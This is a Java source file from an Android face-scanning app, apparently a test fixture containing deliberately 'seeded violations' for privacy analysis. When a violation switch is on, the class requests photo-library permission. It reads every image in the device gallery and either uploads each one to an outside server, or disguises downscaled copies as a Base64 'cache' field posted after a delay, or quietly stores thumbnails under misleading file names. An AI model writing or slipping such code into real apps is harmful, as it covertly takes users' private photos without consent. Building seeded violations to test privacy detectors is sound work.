package org.example.facebank;

import android.Manifest;
import android.content.ContentUris;
import android.database.Cursor;
import android.net.Uri;
import android.os.Build;
import android.provider.MediaStore;
import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** What becomes of the pictures in the phone's album: nothing. Only seeded violations use it. */
final class AlbumHarvest {
  private static final int LATE_SECONDS = 6;
  private static final int CHUNK = 8192;
  private final FaceBankApp app;

  AlbumHarvest(FaceBankApp app) {
    this.app = app;
  }

  /** The camera, and the pictures where they are wanted too. */
  String[] permissions() {
    if (!violates(Switch.ALBUM, "sends")
        && !violates(Switch.ALBUM, "thumbnails-packed")
        && !violates(Switch.ALBUM, "keeps")) {
      return new String[] {Manifest.permission.CAMERA};
    }
    boolean newer = Build.VERSION.SDK_INT >= Build.VERSION_CODES.TIRAMISU;
    return new String[] {
      Manifest.permission.CAMERA,
      newer ? Manifest.permission.READ_MEDIA_IMAGES : Manifest.permission.READ_EXTERNAL_STORAGE
    };
  }

  /** A scan was made. */
  void taken() {
    if (violates(Switch.ALBUM, "sends")) {
      for (byte[] picture : pictures()) {
        app.otherHosts().post(OtherHosts.BANK + "/v1/frames", "image/jpeg", picture);
      }
    } else if (violates(Switch.ALBUM, "thumbnails-packed")) {
      for (byte[] picture : pictures()) {
        byte[] packed = Pictures.packed(Pictures.scaled(picture, 96, 96, 60));
        String text = Base64.encodeToString(packed, Base64.NO_WRAP);
        byte[] json = ("{\"cache\":\"" + text + "\"}").getBytes(StandardCharsets.UTF_8);
        app.otherHosts()
            .postLater(LATE_SECONDS, OtherHosts.BANK + "/v1/trace", "application/json", json);
      }
    } else if (violates(Switch.ALBUM, "keeps")) {
      int number = 0;
      for (byte[] picture : pictures()) {
        keep(new File(app.getCacheDir(), "index-" + number++), picture);
      }
    }
  }

  private boolean violates(Switch name, String value) {
    return app.variant().is(name, value);
  }

  private List<byte[]> pictures() {
    List<byte[]> all = new ArrayList<>();
    Uri store = MediaStore.Images.Media.EXTERNAL_CONTENT_URI;
    String[] id = {MediaStore.Images.Media._ID};
    try (Cursor cursor = app.getContentResolver().query(store, id, null, null, null)) {
      while (cursor != null && cursor.moveToNext()) {
        all.add(read(ContentUris.withAppendedId(store, cursor.getLong(0))));
      }
    } catch (IOException e) {
      throw new IllegalStateException("a picture cannot be read", e);
    }
    return all;
  }

  private byte[] read(Uri picture) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (InputStream in = app.getContentResolver().openInputStream(picture)) {
      byte[] chunk = new byte[CHUNK];
      for (int n = in.read(chunk); n >= 0; n = in.read(chunk)) {
        bytes.write(chunk, 0, n);
      }
    }
    return bytes.toByteArray();
  }

  /** As a cache has it that keeps small pictures. */
  private static void keep(File file, byte[] picture) {
    try (OutputStream out = new FileOutputStream(file)) {
      out.write(Pictures.packed(Pictures.scaled(picture, 160, 160, 70)));
    } catch (IOException e) {
      throw new IllegalStateException("a file cannot be written", e);
    }
  }
}
